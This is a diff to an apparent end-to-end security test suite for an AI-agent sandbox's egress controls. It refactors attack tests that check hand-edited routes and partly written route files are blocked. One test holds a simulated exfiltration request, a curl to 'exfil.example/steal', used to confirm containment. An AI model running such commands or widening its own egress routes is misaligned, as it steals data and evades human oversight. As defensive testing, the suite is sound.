@@ -6,7 +6,6 @@ import fs from "node:fs";
 import http from "node:http";
 import type { AddressInfo } from "node:net";
 import path from "node:path";
-import YAML from "yaml";
 import { E2E_RUNTIMES, bringUp, inContainer, noEngineBanner, log, type Harness, type BottleUnderTest } from "./harness.ts";
 import { probe, reached, type Probe } from "./probe.ts";
 import { docker, dockerOk, sleep } from "./lib/docker.ts";
@@ -20,7 +19,7 @@ import { reloadCommand } from "../../contracts/docker.ts";
 import { stateLayout } from "../../store/layout.ts";
 import { FILE_NAMES } from "../../contracts/paths.ts";
 import { loadManifest, resolveBottle } from "../../components/manifest/load.ts";
-import { AGENT_PLACEHOLDER_TOKEN, parseRoutesYaml } from "../../contracts/routes.ts";
+import { AGENT_PLACEHOLDER_TOKEN, HTTP_METHODS, parseRoutesYaml, renderRoutesYaml } from "../../contracts/routes.ts";
 import { seal, withoutSeal } from "../../contracts/seal.ts";
 import { REDACTED } from "../../sidecars/egress/redact.ts";
 import { main as bottleCli } from "../../cli/commands.ts";
@@ -472,12 +471,13 @@ function registerAttacks(): void {
     id: "P15", title: "strict allowlist: a host egress routes (routes.yaml edited by hand, no approval) that pipelock's allowlist does not hold", expected: "blocked by pipelock's allowlist; the agent is pointed at propose_pipelock_allowlist",
     needs: ["pipelock"],
     run: async () => {
-      // A person editing routes.yaml by hand: egress takes it, pipelock.yaml is not re-rendered.
+      // A person editing routes.yaml by hand and sealing it (`bottle seal`): egress takes it,
+      // pipelock.yaml is not re-rendered.
       const file = stateLayout(A.stateDir).routesFile;
       const good = fs.readFileSync(file, "utf8");
-      const doc = YAML.parse(good);
-      doc.routes.push({ host: "exfil.example" });
-      writeFileAtomic(file, YAML.stringify(doc), 0o644);
+      const doc = parseRoutesYaml(good);
+      doc.routes.push({ host: "exfil.example", path_allowlist: ["/"], methods: [...HTTP_METHODS] });
+      writeFileAtomic(file, renderRoutesYaml(doc), 0o644);
       await docker(reloadCommand(A.containers.egress!.name));
       try {
         let o = await curl("https://exfil.example/steal?d=EXFIL-P15");
@@ -654,7 +654,7 @@ function registerHardeningAttacks(): void {
   // --- no prefix of a live file is applied (item 3) ------------------------------------------
   attack({
     id: "L1", title: "routes.yaml rewritten in place by a slow writer: prefix cut before api.github.com's restrictions, requests during the pause", expected: "nothing of the prefix applied; old rules stay", needs: ["egress"],
-    webMustNotSee: (e) => (e.path ?? "").startsWith("/repos/octo/l1") || (e.method === "POST" && (e.path ?? "").startsWith("/repos/octo/allowed")),
+    webMustNotSee: (e) => (e.path ?? "").startsWith("/repos/octo/l1") || (e.method === "DELETE" && (e.path ?? "").startsWith("/repos/octo/allowed")),
     run: async () => {
       const file = stateLayout(A.stateDir).routesFile;
       const good = fs.readFileSync(file, "utf8");
@@ -665,7 +665,7 @@ function registerHardeningAttacks(): void {
         fs.ftruncateSync(fd, 0);
         fs.writeSync(fd, good.slice(0, at), 0);
         await sleep(3000); // past egress's debounce and its 2 s stat poll
-        outs.push(await curl("https://api.github.com/repos/octo/l1"), await curl("-X POST -d x=1 https://api.github.com/repos/octo/allowed"));
+        outs.push(await curl("https://api.github.com/repos/octo/l1"), await curl("-X DELETE https://api.github.com/repos/octo/allowed"));
         fs.writeSync(fd, good.slice(at), at);
       } finally {
         fs.closeSync(fd);
